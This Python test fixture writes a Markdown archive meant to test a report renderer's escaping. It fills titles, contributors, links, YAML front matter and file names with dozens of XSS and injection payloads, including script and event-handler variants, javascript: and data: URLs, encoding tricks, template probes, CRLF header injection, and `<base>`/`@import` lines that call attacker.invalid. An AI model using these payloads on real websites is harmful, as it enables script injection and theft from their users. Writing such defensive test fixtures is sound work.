"""An archive in which every string that an author controls is an attack on the page.

Each attack sets `window.pwned` or opens a dialog if it ever runs; a test looks for both. None of them leaves loopback.
"""

import json
import re
from datetime import date, timedelta

RUN = "window.pwned=1;alert(1)"

# What somebody might write wherever text goes.
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script nested": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "end of a script": f"</script><script>{RUN}</script>",
    "end of a title": f"</title></textarea></style><script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "image with slashes": f"<img/src=`x`/onerror={RUN}//",
    "double quote": f'" autofocus onfocus="{RUN}" x="',
    "single quote": f"' autofocus onfocus='{RUN}' x='",
    "quote and tag": f'"><svg onload="{RUN}">',
    "single quote and tag": f"'><svg onload='{RUN}'>",
    "svg": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    "details": f"<details open ontoggle={RUN}>",
    "form": f'<form action="javascript:{RUN}"><button autofocus formaction="javascript:{RUN}">x</button></form>',
    "base": '<base href="https://attacker.invalid/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "style": f'<style>@import "https://attacker.invalid/x.css";</style><p style="background:url({RUN})">x</p>',
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{{constructor.constructor('window.pwned=1')()}}",
    "comment": f"<!-- never closed <img src=x onerror={RUN}>",
    "comment closed": f"--><script>{RUN}</script><!--",
    "data section": f"]]><script>{RUN}</script><![CDATA[",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "entities twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "full width": f"＜script＞{RUN}＜/script＞",
    "bidi": "公开\u202egnp.exe\u202c的\u2066文件\u2069\u202ejs.lmth",
    "zero width": "java\u200bscript\ufeff:\u2060alert(1)",
    "null": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00<img src=x onerr\x00or={RUN}>",
    "controls": f"\x07\x1b[31m<a href='java\x01script:{RUN}'>x</a>\x7f",
    "lines": f'"\u2028{RUN}\u2029//',
    "backslashes": f'\\"];{RUN}//\\x3cscript\\x3e{RUN}\\x3c/script\\x3e\\u003cscript\\u003e',
    "header": "x%0d%0aSet-Cookie:pwned=1%0d%0a%0d%0a<script>window.pwned=1</script>",
}

# Where a link may lead, as Markdown and as raw HTML write it.
ADDRESSES = {
    "javascript": f"javascript:{RUN}",
    "capitals": f"JaVaScRiPt:{RUN}",
    "tab": f"java&#9;script:{RUN}",
    "encoded": f"&#106;avascript:{RUN}",
    "control before": f"&#1;javascript:{RUN}",
    "percent": "javascript:%77indow.pwned=1",
    "comment": f"javascript://example.com/%0a{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data encoded": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://example.com/1",
    "view source": "view-source:javascript:alert(1)",
    "host": 'https://javascript:alert(1)@example.com/"onmouseover="window.pwned=1',
    "query": 'https://example.com/?q="><script>window.pwned=1</script>',
    "fragment": "https://example.com/#'onclick='window.pwned=1",
    "scheme only": '//example.com/x"onerror="window.pwned=1',
}


def escaped(text):
    """The text as Markdown that reads as just this text; raw HTML would be dropped long before it reaches a page."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def headings(texts, addresses):
    """A report that gives every text as section, title, contributor and body, every address as link."""
    parts = ["# 测试日报"]
    for name, text in texts.items():
        parts += [f"# 栏目 {text}", f"## 子栏目 {text}"]
        parts.append(
            f"### 标题 {name} {text}\n\n贡献人：@{text}\n\nhttps://example.com/{text}\n\n正文 {text} 完。\n\n{text}"
        )
    for name, address in addresses.items():
        parts.append(
            f"### 链接 {name}\n\n贡献人：@测试组\n\n链接：{address}\n\n[说明]({address}) [尖]( <{address}> ) "
            f"![图]({address}) <a href=\"{address}\">原文</a> <a href='{address}'>另一种</a> <{address}>\n\n"
            f"[引用][{name}]\n\n[{name}]: {address}"
        )
    return "\n\n".join(parts) + "\n"


def linked_titles():
    """Titles that are links themselves, and a list of links."""
    titles = [f"### [标题 {name}]({address})\n\n正文 {name}。" for name, address in ADDRESSES.items()]
    entries = [f"- [条目 {name}]({address})：说明 {name}" for name, address in ADDRESSES.items()]
    return "# 测试日报（2月 2日）\n\n# 链接\n\n" + "\n\n".join(titles) + "\n\n# 列表\n\n" + "\n".join(entries) + "\n"


def front_matter(text, address):
    """A page whose front matter attacks; JSON strings are YAML strings, too."""
    quoted = json.dumps(text)
    return (
        f"---\ntitle: {quoted}\nauthor: {quoted}\nsection: {quoted}\ntags: [{quoted}]\nlink: {json.dumps(address)}\n"
        f"date: 2024-02-03\n---\n\n正文 {text}\n\n```html\n{text}\n```\n\n| {text} | b |\n|---|---|\n"
        f"| {text} | [x]({address}) |\n"
    )


def write(folder):
    """Writes the archive below `folder` and returns its path, whose last part is the name of its only source."""
    archive = folder / "来源 <img src=x onerror=window.pwned=1>"
    archive.mkdir(parents=True)

    def put(name, text):
        path = archive / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    # A file with null bytes may be told from text and left out; it must not take the others with it.
    whole = {name: text for name, text in TEXTS.items() if "\x00" not in text}
    put("2024-02-01.md", headings(whole, ADDRESSES))
    put("2024-02-04.md", headings({name: escaped(text) for name, text in whole.items()}, {}))
    put("2024-02-03.md", headings({name: text for name, text in TEXTS.items() if name not in whole}, {}))
    put("2024-02-02.md", linked_titles())
    addresses = list(ADDRESSES.values())
    for at, text in enumerate(TEXTS.values()):
        day = date(2024, 3, 1) + timedelta(days=at)
        put(f"pages/{day}-page.md", front_matter(text, addresses[at % len(addresses)]))
    # Names of files are parts of ids and of addresses.
    for at, name in enumerate(
        (
            '2024-05-01"><img src=x onerror=window.pwned=1>',
            "2024-05-02' onmouseover='window.pwned=1",
            "2024-05-03?q=1&section=2#x",
            "2024-05-04 %3Cscript%3Ewindow.pwned=1%3C%2Fscript%3E",
            "2024-05-05 javascript:window.pwned=1",
            "2024-05-06 {{7*7}}\u202egnp",
        )
    ):
        put(
            f"names/{name}.md",
            f"# 测试\n\n# 栏目\n\n### 文件名 {at}\n\n贡献人：@测试组\n\nhttps://example.com/{at}\n\n正文\n",
        )
    put("<svg onload=window.pwned=1>/2024-05-08.md", "# 测试\n\n# 栏目\n\n### 文件夹名\n\n贡献人：@测试组\n\n正文\n")
    return archive
